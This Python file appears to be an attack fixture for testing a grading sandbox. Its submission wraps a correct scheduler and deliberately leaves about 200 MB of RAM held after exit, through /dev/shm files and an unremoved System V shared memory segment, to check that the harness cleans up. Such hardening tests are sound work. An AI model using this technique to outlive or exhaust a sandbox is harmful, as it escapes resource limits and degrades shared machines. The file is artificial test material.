# ruff: noqa
"""Hold machine memory after the sandbox is gone: /dev/shm files and a System V segment.

Attack: RLIMIT_AS caps what the process maps, not what it leaves in shared memory. Once (the
first process that finds nothing there) it writes 100 files of 1 MiB (the file-size limit) in
/dev/shm/schedcheck-attack-shm/ and creates a 100 MB System V segment (key 0x5CED0702,
attached and touched, never removed): 200 MB of RAM that stays allocated after the process
exits. It is the correct scheduler.

Expected: graded as the correct scheduler it wraps: 100; nothing of it left in /dev/shm or in
`ipcs -m` after the run (a private /dev/shm and IPC namespace per child, or a sweep).
"""

from __future__ import annotations

# ---- impl/scheduler.py is spliced in here (recipes.attack_source) ----

# ---- the attack ----
import ctypes as _ctypes
import os as _os

_DIR, _KEY, _SEG = "/dev/shm/schedcheck-attack-shm", 0x5CED0702, 100 << 20


def _hold() -> None:
    try:
        _os.mkdir(_DIR, 0o777)
    except OSError:
        return  # another process already holds it: at most 100 files and one segment in all
    chunk = b"\xa5" * (1 << 20)
    for i in range(100):
        try:
            with open(f"{_DIR}/{i:03d}", "wb") as f:
                f.write(chunk)
        except OSError:
            break
    libc = _ctypes.CDLL(None, use_errno=True)
    libc.shmat.restype = _ctypes.c_void_p
    shmid = libc.shmget(_KEY, _SEG, 0o1000 | 0o2000 | 0o600)  # IPC_CREAT | IPC_EXCL
    if shmid >= 0:
        addr = libc.shmat(shmid, None, 0)
        if addr not in (None, _ctypes.c_void_p(-1).value):
            _ctypes.memset(addr, 0xA5, _SEG)
            libc.shmdt(_ctypes.c_void_p(addr))


_hold()
